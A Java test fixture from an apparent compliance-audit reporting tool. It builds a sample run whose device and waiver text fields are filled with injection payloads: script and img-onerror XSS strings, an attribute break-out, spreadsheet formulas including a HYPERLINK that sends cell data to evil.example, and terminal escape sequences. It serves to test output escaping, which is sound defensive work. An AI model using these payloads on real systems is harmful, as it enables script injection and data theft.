package io.auditor.report;

import io.auditor.model.Control;
import io.auditor.model.ControlResult;
import io.auditor.model.Role;
import io.auditor.model.RunReport;
import io.auditor.model.Severity;
import io.auditor.model.Status;
import io.auditor.model.Waiver;

import java.time.LocalDate;
import java.util.List;
import java.util.Set;

/**
 * A run whose every piece of device- or file-supplied text is an attack: markup that would run script if
 * it reached a browser unescaped, spreadsheet formulas, terminal sequences and characters XML cannot hold.
 */
final class HostileRuns {
    private HostileRuns() {}

    static final String SCRIPT = "<script>document.title='pwned-script'</script>";
    static final String IMG = "<img src=x onerror=\"document.title='pwned-img'\">";
    static final String ATTR = "\" onmouseover=\"alert(1)";
    static final String FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";
    static final String TERMINAL = "\u001b]0;owned\u0007\u001b[31mred\u001b[0m\u0000\u0001\u009b2J";

    static final Control AV01 = new Control("AV-01", "Anti-malware installed and running", Severity.CRITICAL,
            List.of("000 §12"), Set.of(Role.WORKSTATION), Set.of("anti-malware"), "why", "how",
            "Turn real-time protection on.");
    static final Control PATCH01 = new Control("PATCH-01", "Security updates applied promptly", Severity.HIGH,
            List.of("000 §12", "CE"), Set.of(Role.WORKSTATION), Set.of("updates"), "why", "how", "Install them.");

    static RunReport run() {
        Waiver waiver = new Waiver("PATCH-01", "ws-*", "reason " + SCRIPT, "risk " + IMG, "@SUM(A1:A9) " + IMG,
                LocalDate.of(2026, 1, 1), LocalDate.of(2026, 12, 31), "waivers.yaml:3");
        return new RunReport("run-1", SampleRuns.STARTED, SampleRuns.FINISHED, "School " + SCRIPT,
                "profile " + IMG, "", List.of(
                        new RunReport.DeviceSummary("ws-1", List.of("workstation"), "windows", true, List.of()),
                        new RunReport.DeviceSummary("ws-2" + ATTR, List.of("workstation"), "windows", false,
                                List.of("banner " + IMG + TERMINAL))),
                List.of(
                        new ControlResult(AV01, "ws-1", Status.GAP,
                                List.of("product " + SCRIPT + " stopped [defender-status]", FORMULA, "+1+1", "-2",
                                        "@cmd", "\t=1", TERMINAL + "\uFFFE\uD800 end"), null, null),
                        new ControlResult(PATCH01, "ws-1", Status.WAIVED, List.of("KB1 " + IMG), waiver, null),
                        new ControlResult(AV01, "ws-2" + ATTR, Status.NOT_ASSESSED, List.of("banner " + IMG), null,
                                null),
                        new ControlResult(PATCH01, "ws-2" + ATTR, Status.NOT_ASSESSED, List.of("banner " + IMG),
                                null, null)),
                List.of(AV01, PATCH01), List.of(waiver));
    }
}
